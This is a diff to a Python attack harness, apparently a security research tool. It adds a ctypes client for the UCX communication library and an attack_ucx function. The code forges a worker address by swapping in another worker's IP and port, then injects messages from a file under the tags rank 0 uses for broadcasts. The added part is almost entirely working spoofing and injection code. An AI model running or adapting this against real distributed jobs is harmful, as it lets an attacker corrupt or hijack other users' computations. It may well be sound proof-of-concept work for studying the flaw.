@@ -9,6 +9,7 @@ else it goes on until it is killed.
 
 from __future__ import annotations
 
+import ctypes
 import os
 import resource
 import selectors
@@ -241,6 +242,89 @@ def attack_meeting(address: Address, count: int, path: str) -> None:
 def listening_ports() -> Set[int]:
     lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
     return {int(words[1].split(":")[1], 16) for words in map(str.split, lines) if words[3] == "0A"}
+
+
+class UcxClient:
+    """A worker of the real library, with nothing but TCP, that takes another one's address for its own with the IP
+    address and the port exchanged."""
+
+    def __init__(self) -> None:
+        os.environ.update(UCX_TLS="tcp", UCX_NET_DEVICES="net0", UCX_WARN_UNUSED_ENV_VARS="n")
+        self.ucp = ctypes.CDLL("libucp.so.0")
+        for name in ("ucp_tag_send_nbx", "ucp_ep_flush_nbx"):
+            getattr(self.ucp, name).restype = ctypes.c_void_p
+        self.ucp.ucp_request_check_status.restype = ctypes.c_int8
+        major, minor, release = ctypes.c_uint(), ctypes.c_uint(), ctypes.c_uint()
+        self.ucp.ucp_get_version(ctypes.byref(major), ctypes.byref(minor), ctypes.byref(release))
+        config, context = ctypes.c_void_p(), ctypes.c_void_p()
+        self.worker = ctypes.c_void_p()
+        self._good(self.ucp.ucp_config_read(None, None, ctypes.byref(config)))
+        features = struct.pack("<QQ", 1, 1) + bytes(256)  # of the fields the features alone, and of those tags
+        self._good(self.ucp.ucp_init_version(major, minor, features, config, ctypes.byref(context)))
+        self._good(self.ucp.ucp_worker_create(context, bytes(256), ctypes.byref(self.worker)))
+        self.endpoint = ctypes.c_void_p()
+
+    @staticmethod
+    def _good(status: int) -> None:
+        assert status == 0, f"UCX answers {status}"
+
+    def own_address(self) -> bytes:
+        place, size = ctypes.c_void_p(), ctypes.c_size_t()
+        self._good(self.ucp.ucp_worker_get_address(self.worker, ctypes.byref(place), ctypes.byref(size)))
+        assert place.value is not None
+        return ctypes.string_at(place.value, size.value)
+
+    def connect(self, own_ip: str, own_port: int, to: Address) -> int:
+        """What UCX says of it."""
+        address = self.own_address()
+        # First the number by which a worker knows itself; the IP address and the port stand at the end.
+        address = address[:1] + os.urandom(8) + address[9:]
+        for own, other in (
+            (socket.inet_aton(own_ip), socket.inet_aton(to[0])),
+            (struct.pack(">H", own_port), struct.pack(">H", to[1])),
+        ):
+            before, found, after = address.rpartition(own)
+            assert found, address.hex()
+            address = before + other + after
+        self.address = ctypes.create_string_buffer(address, len(address))
+        params = struct.pack("<QQ", 1, ctypes.addressof(self.address)) + bytes(512)  # the address alone
+        return int(self.ucp.ucp_ep_create(self.worker, params, ctypes.byref(self.endpoint)))
+
+    def send(self, tag: int, content: bytes) -> None:
+        """Whether it arrives is told by flush()."""
+        self.ucp.ucp_tag_send_nbx(
+            self.endpoint, content, ctypes.c_size_t(len(content)), ctypes.c_uint64(tag), bytes(256)
+        )
+
+    def flush(self) -> int:
+        """Returns when all that was sent is with the other end; what UCX says of it."""
+        request = self.ucp.ucp_ep_flush_nbx(self.endpoint, bytes(256))
+        while request is not None:
+            self.ucp.ucp_worker_progress(self.worker)
+            status = self.ucp.ucp_request_check_status(ctypes.c_void_p(request))
+            if status != 1:
+                return int(status)
+        return 0
+
+
+def attack_ucx(address: Address, count: int, path: str) -> None:
+    """Messages of the real UCX to the port of a worker, with the tags that rank 0 gives the broadcasts of `count`
+    works. FILE:FIRST:STEP: the bytes of each message, the number of the first work, and the distance of the next."""
+    file, first, step = path.rsplit(":", 2)
+    forged = Path(file).read_bytes()
+    client = UcxClient()
+    own_ip = subprocess.run(["hostname", "-I"], check=True, capture_output=True, text=True).stdout.split()[0]
+    (own_port,) = listening_ports()
+    say("under way")
+    if status := client.connect(own_ip, own_port, address):
+        say(f"over: UCX answers {ctypes.c_int8(status).value}")
+        return
+    generations, tree, rank = range(4), 5, 0
+    for sequence in range(int(first), int(first) + count * int(step), int(step)):
+        for generation in generations:
+            client.send(generation << 52 | (sequence & 0xFFFF) << 20 | tree << 16 | rank, forged)
+    status = client.flush()
+    say(f"over: {count * len(generations)} messages sent" if status == 0 else f"over: UCX answers {status}")
 
 
 def attack_refused(address: Address, count: int, path: str) -> None:
